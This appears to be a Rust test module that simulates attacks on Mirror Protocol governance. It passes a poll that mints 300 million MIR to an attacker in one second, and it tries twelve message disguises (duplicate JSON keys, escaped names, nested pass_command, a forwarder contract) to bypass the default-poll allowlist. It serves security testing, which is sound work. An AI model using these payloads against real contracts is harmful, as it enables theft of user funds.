//! All MIR released in one second, by a default poll that does not look like it.

use anyhow::Context;
use cosmwasm_std::{
    from_json, to_json_vec, Addr, Binary, Deps, DepsMut, Empty, Env, MessageInfo, Response,
    StdResult, Uint128, WasmMsg,
};
use cw_multi_test::{Contract, ContractWrapper};
use mirror_protocol::factory::{self, ConfigUpdate, Factory, FixedDistribution};
use mirror_testing::{standard_profile, AddressBook, Addresses, TestChain, World};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{DAY, MILLION};
use crate::attacks::polls::{self, Proposal, FIFTH, THIRD};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const SECOND: Attack = Attack {
    name: "default poll: the release",
    story: "factory.update_config was a message like any other: a fifth of the stake passed a \
            schedule of one second, which minted 300 million MIR.",
    run: second,
};

pub(super) const DISGUISED: Attack = Attack {
    name: "default poll in disguise",
    story: "What a default poll may do is a list of names; the same schedule under a name that \
            nearly matches, behind one that does, or sent by way of another contract.",
    run: disguised,
};

/// The MIR that the attacker wants released in one second.
const WANTED: u128 = 300 * MILLION;
/// What the first year of the founding schedule releases.
const YEAR: u128 = 1_281 * MILLION / 10;
/// What thirty days of it release.
const MONTH: u128 = YEAR / 365 * 30;
/// When the attacker's schedule begins, counted from the creation of the poll.
const LATER: u64 = 20 * DAY;

/// A schedule that pays everything to the attacker, in this many seconds.
fn schedule(trial: &Trial, wanted: u128, seconds: u64) -> anyhow::Result<factory::ExecuteMsg> {
    let factory = Factory(trial.world.at.factory.clone());
    let genesis = factory.config(&trial.world.chain.app.wrap())?.genesis_time;
    let start = trial.world.chain.now() - genesis + LATER;
    let fixed = FixedDistribution {
        recipient: trial.attacker.to_string(),
        schedule: vec![(start, start + seconds, Uint128::new(wanted))],
    };
    Ok(factory::ExecuteMsg::UpdateConfig(ConfigUpdate {
        distribution_schedule: Some(vec![]),
        mirror_distribution_schedule: Some(vec![]),
        fixed_distributions: Some(vec![fixed]),
        ..Default::default()
    }))
}

/// Waits until the schedule is over, has the MIR distributed, and withdraws the stake.
fn collects(trial: &mut Trial) -> anyhow::Result<()> {
    let factory = trial.world.at.factory.clone();
    trial.world.chain.pass(LATER + 30 * DAY);
    let distribute = factory::ExecuteMsg::Distribute {};
    trial.does(Transaction::new().calls(&factory, &distribute))?;
    polls::leaves(trial)
}

fn second() -> anyhow::Result<Findings> {
    let mut trial = polls::governed(standard_profile(&TestChain::new()), FIFTH)?;
    let update = schedule(&trial, WANTED, 1)?;
    let proposal = Proposal::call(&trial.world.at.factory, &update)?;
    polls::passes(&mut trial, "T-87", &proposal)?;
    collects(&mut trial)?;
    let plain = trial.ends("had 300 million MIR released to the attacker in one second")?;
    let third = |wanted: u128, seconds: u64, tried: &str| -> anyhow::Result<Attempt> {
        let mut trial = polls::governed(standard_profile(&TestChain::new()), THIRD)?;
        let update = schedule(&trial, wanted, seconds)?;
        let proposal = Proposal::execute(&trial.world.at.factory, &update)?;
        polls::passes(&mut trial, "T-74", &proposal)?;
        collects(&mut trial)?;
        trial.ends(tried)
    };
    let days = 30 * DAY;
    Ok(Findings {
        attempts: vec![
            plain,
            third(
                WANTED,
                1,
                "with a third of the stake tried the same as an execute poll",
            )?,
            third(
                MONTH + MONTH / 100,
                days,
                "with a third tried a hundredth more than the first year's pace, for a month",
            )?,
        ],
        exposures: vec![third(MONTH, days, "")?.exposes(
            "a third of the stake, while nobody else votes: for a month all that the first year \
             releases is the attacker's",
        )],
    })
}

/// The contract that gets the message, and the message, made from the fields of
/// factory.update_config.
type Disguise = fn(&Addresses, &str) -> (Addr, String);

const DISGUISES: [(Disguise, &str); 12] = [
    (
        |at, fields| {
            let text = format!(r#"{{"distribute":{{}},"update_config":{fields}}}"#);
            (at.factory.clone(), text)
        },
        "as the second key of a message that distributes",
    ),
    (
        |at, fields| {
            let text = format!(r#"{{"update_config":{fields},"distribute":{{}}}}"#);
            (at.factory.clone(), text)
        },
        "as the first key of it",
    ),
    (
        |at, fields| {
            (
                at.factory.clone(),
                format!(r#"{{"upd\u0061te_config":{fields}}}"#),
            )
        },
        "with a letter of its name as an escape",
    ),
    (
        |at, fields| {
            let text = format!(r#"{{"distribute":{{}}}}{{"update_config":{fields}}}"#);
            (at.factory.clone(), text)
        },
        "as a second message behind one that distributes",
    ),
    (
        |at, fields| passed(at, &at.factory, &update(fields)),
        "passed on by the factory to itself",
    ),
    (
        |at, fields| {
            let (_, inner) = passed(at, &at.factory, &update(fields));
            passed(at, &at.factory, &inner)
        },
        "passed on by the factory to pass it on",
    ),
    (
        |at, fields| {
            let text = format!(r#"{{"cancel_delisting":{{}},"update_config":{fields}}}"#);
            passed(at, &at.factory, &text)
        },
        "passed on by the factory as the second key",
    ),
    (
        |at, fields| {
            let [listed, wanted] = [r#"{"distribute":{}}"#, &update(fields)].map(base64);
            let (factory, mint) = (&at.factory, &at.mint);
            let text = format!(
                r#"{{"pass_command":{{"contract_addr":"{mint}","msg":"{listed}","contract_addr":"{factory}","msg":"{wanted}"}}}}"#
            );
            (at.factory.clone(), text)
        },
        "in fields that a message to be passed on has twice",
    ),
    (
        |_, _| {
            let forwarder = AddressBook::default().addr_make(FORWARDER);
            (forwarder, r#"{"distribute":{}}"#.to_string())
        },
        "by way of an own contract, whose message for it has a listed name",
    ),
    (
        |at, fields| (at.factory.clone(), format!(r#"{{"distribute":{fields}}}"#)),
        "in the fields of a message that distributes",
    ),
    (
        |at, fields| (at.factory.clone(), format!(r#"{{"Distribute":{fields}}}"#)),
        "under a listed name with a capital letter",
    ),
    (
        |at, fields| {
            (
                at.factory.clone(),
                format!(r#"{{"update_weight ":{fields}}}"#),
            )
        },
        "under a listed name with a space behind it",
    ),
];

fn update(fields: &str) -> String {
    format!(r#"{{"update_config":{fields}}}"#)
}

fn base64(text: &str) -> String {
    Binary::from(text.as_bytes()).to_base64()
}

fn passed(at: &Addresses, contract: &Addr, text: &str) -> (Addr, String) {
    let msg = base64(text);
    let text = format!(r#"{{"pass_command":{{"contract_addr":"{contract}","msg":"{msg}"}}}}"#);
    (at.factory.clone(), text)
}

fn disguised() -> anyhow::Result<Findings> {
    let attempts = DISGUISES.map(|(disguise, how)| attempt(disguise, how));
    Ok(Findings {
        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
        exposures: vec![],
    })
}

fn attempt(disguise: Disguise, how: &str) -> anyhow::Result<Attempt> {
    let mut trial = polls::governed(standard_profile(&TestChain::new()), FIFTH)?;
    let update = serde_json::to_value(schedule(&trial, WANTED, 1)?)?;
    let fields = update.get("update_config").context("its fields")?;
    let (contract, text) = disguise(&trial.world.at, &fields.to_string());
    let contract = match contract == AddressBook::default().addr_make(FORWARDER) {
        true => forwarder(&mut trial.world, &fields.to_string()),
        false => contract,
    };
    let proposal = Proposal::raw(&contract, Binary::from(text.into_bytes()));
    polls::passes(&mut trial, "T-87", &proposal)?;
    collects(&mut trial)?;
    trial.ends(format!("tried a schedule of one second {how}"))
}

/// Placeholder for the forwarder's address, which is not known before it is created.
const FORWARDER: &str = "forwarder";

/// Creates a contract of the attacker that forwards a message to the factory.
fn forwarder(world: &mut World, fields: &str) -> Addr {
    let attacker = world.chain.account("attacker");
    let order = Order {
        contract: world.at.factory.to_string(),
        msg: Binary::from(update(fields).into_bytes()),
    };
    let code: Box<dyn Contract<Empty>> =
        Box::new(ContractWrapper::new(send_order, store_order, nothing));
    world.chain.create(code, &attacker, &order)
}

/// Where the forwarder stores its order.
const ORDER: &[u8] = b"order";

/// The message that the forwarder sends when it is called.
#[derive(Serialize, Deserialize, Debug)]
struct Order {
    contract: String,
    msg: Binary,
}

fn store_order(deps: DepsMut, _: Env, _: MessageInfo, order: Order) -> StdResult<Response> {
    deps.storage.set(ORDER, &to_json_vec(&order)?);
    Ok(Response::new())
}

fn send_order(deps: DepsMut, _: Env, _: MessageInfo, _: Value) -> StdResult<Response> {
    let Order { contract, msg } = from_json(deps.storage.get(ORDER).unwrap_or_default())?;
    Ok(Response::new().add_message(WasmMsg::Execute {
        contract_addr: contract,
        msg,
        funds: vec![],
    }))
}

fn nothing(_: Deps, _: Env, _: Empty) -> StdResult<Binary> {
    Ok(Binary::default())
}
